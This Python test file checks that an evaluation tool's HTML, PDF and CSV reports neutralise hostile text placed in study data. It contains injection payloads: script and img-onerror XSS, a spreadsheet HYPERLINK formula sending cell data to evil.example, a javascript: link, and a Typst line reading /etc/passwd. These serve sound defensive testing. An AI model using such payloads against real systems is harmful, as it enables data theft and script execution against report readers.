"""A study whose every text attacks the reader of its report: nothing runs, nothing loads, all of it shows as text."""

from __future__ import annotations

import csv
import re
import shutil
import subprocess
from pathlib import Path
from typing import Any

import pikepdf
import pytest
import yaml
from conftest import Repository
from playwright.sync_api import Browser
from visit import PAGES, visit

from evaluation.reporting.pages.html import script

SCRIPT = "<script>alert(1)</script>"
IMAGE = '"><img src=x onerror=alert(2)>'
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")'
MARKDOWN = "![p](http://evil.example/p.png) [l](javascript:alert(3)) `c` *b* $x_1$ @fig-means {{7*7}}"
TYPST = '#eval("6*7") #image("/etc/passwd") #"a" \\ <here> ~ $ // c'
MARKUP = "[/bold][link=http://evil.example]m[/link]"
CENTRE = "<u>va</u>"  # no label: shown as it stands in the data
ALIVE = "script, iframe, object, embed, form, [onerror], [onload], [href^='javascript:'], [src^='http'], u"


def write_study(folder: Path, origin: Path) -> Path:
    """Write the study that ships with an attack wherever someone else's text goes."""
    shutil.copytree(origin, folder)
    _edit_yaml(folder / "protocol.yml", _protocol)
    _edit_yaml(folder / "contract.yml", _contract)
    _edit_csv(
        folder / "participants.csv",
        centre={"volare-alto": CENTRE}, sex={"M": SCRIPT, "F": IMAGE}, school_grade={"media": FORMULA},
        left_reason={"": SCRIPT},
    )  # fmt: skip
    _edit_csv(folder / "attendance.csv", activity={"STEAM & Future Thinking": SCRIPT})
    _edit_csv(
        folder / "programme.csv", project={"officine-mezzogiorno": SCRIPT}, period={"2023": TYPST},
        indicator_it={"Ore di formazione STEAM": FORMULA}, indicator_en={"Hours of STEAM training": MARKDOWN},
        unit={"persone / persons": IMAGE}, source={"000_f20dc0eb6f2a58c7.txt": MARKUP}, flag={"": f"{IMAGE} / {TYPST}"},
    )  # fmt: skip
    return folder


def _protocol(protocol: dict[str, Any]) -> None:
    protocol["study"]["title"] = {"it": f"{SCRIPT} {IMAGE}", "en": f"{MARKDOWN} {TYPST} {MARKUP}"}
    protocol["centres"] = {
        "treated": CENTRE, "comparison": "confronto",
        "labels": {"confronto": {"it": f"{SCRIPT} {TYPST}", "en": f"{IMAGE} {MARKDOWN}"}},
    }  # fmt: skip
    outcomes = {outcome["id"]: outcome for outcome in protocol["outcomes"]}
    outcomes["steam"]["label"] = {"it": f"{FORMULA} {SCRIPT}", "en": f"{MARKDOWN} {MARKUP}"}
    outcomes["interest"] |= {"label": {"it": TYPST, "en": IMAGE}, "unit": SCRIPT}
    protocol["waves"][0]["label"] = {"it": IMAGE, "en": TYPST}


def _contract(contract: dict[str, Any]) -> None:
    names = (SCRIPT, IMAGE, MARKDOWN, TYPST)
    for party, name in zip(contract["parties"], names, strict=True):
        party |= {"name": name, "signatory": name}
    contract["metrics"][0]["label"] = {"it": IMAGE, "en": SCRIPT}


@pytest.fixture(scope="module")
def reports(repository: Repository, tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("hostile")
    study = write_study(folder / "study", repository.study)
    said = repository.evaluation("run", study, "--output", folder / "out").stdout
    assert MARKUP in said  # the command line prints it as text, too
    return folder / "out" / "reports"


@pytest.mark.parametrize("name", PAGES)
def test_nothing_runs_and_nothing_is_loaded(browser: Browser, reports: Path, name: str) -> None:
    with visit(browser, reports / name) as seen:
        assert seen.complaints == []
        assert seen.requests == [(reports / name).resolve().as_uri()]
        alive = seen.page.eval_on_selector_all(ALIVE, "found => found.map(each => each.outerHTML)")
        assert [each for each in alive if each != f"<script>{script()}</script>"] == []
        titles = {"it": f"{SCRIPT} {IMAGE}", "en": f"{MARKDOWN} {TYPST} {MARKUP}"}
        shown = _plain(seen.page.inner_text("body"))
        for language in ("it", "en") if name == "index.html" else [name.split(".")[1]]:
            assert _plain(titles[language]) in shown


def test_names_of_parties_show_as_they_are(browser: Browser, reports: Path) -> None:
    with visit(browser, reports / "evaluator_report.it.html") as seen:
        shown = _plain(seen.page.inner_text("main"))
    for name in (SCRIPT, IMAGE, MARKDOWN, TYPST, CENTRE, FORMULA):
        assert _plain(name) in shown


@pytest.mark.parametrize("language", ["it", "en"])
def test_the_pdf_shows_it_and_holds_no_action(reports: Path, language: str) -> None:
    pdf = reports / f"evaluator-report.{language}.pdf"
    shown = _plain(subprocess.run(["pdftotext", pdf, "-"], capture_output=True, text=True, check=True).stdout)
    for name in (SCRIPT, IMAGE, '#eval("6*7")', "![p](http://evil.example/p.png)"):
        assert _plain(name) in shown
    with pikepdf.open(pdf) as document:
        kinds = {str(each.get("/S")) for each in document.objects if isinstance(each, pikepdf.Dictionary)}
    assert not kinds & {"/JavaScript", "/URI", "/Launch", "/SubmitForm", "/GoToR"}


def test_no_cell_of_a_table_is_a_formula(reports: Path) -> None:
    cells = [
        (path.name, cell)
        for path in (reports / "tables").glob("*.csv")
        for row in csv.reader(path.read_text(encoding="utf-8").splitlines())
        for cell in row
    ]
    assert any(cell == f"'{FORMULA}" for _, cell in cells)
    assert [
        found for found in cells if found[1][:1] in ("=", "@", "+", "\t") or re.match(r"-(?![\d.])", found[1])
    ] == []


def _plain(text: str) -> str:
    """Return a text without white space and soft hyphens, which pages and sheets break as they like."""
    return re.sub(r"[\s\u00ad\u200b\u2060]", "", text)


def _edit_yaml(path: Path, change: Any) -> None:
    document = yaml.safe_load(path.read_text(encoding="utf-8"))
    change(document)
    path.write_text(yaml.safe_dump(document, allow_unicode=True, sort_keys=False), encoding="utf-8")


def _edit_csv(path: Path, **columns: dict[str, str]) -> None:
    with path.open(encoding="utf-8", newline="") as stream:
        rows = list(csv.DictReader(stream))
    for column, words in columns.items():
        assert any(row[column] in words for row in rows), (path.name, column)
        for row in rows:
            row[column] = words.get(row[column], row[column])
    with path.open("w", encoding="utf-8", newline="") as stream:
        writer = csv.DictWriter(stream, rows[0])
        writer.writeheader()
        writer.writerows(rows)
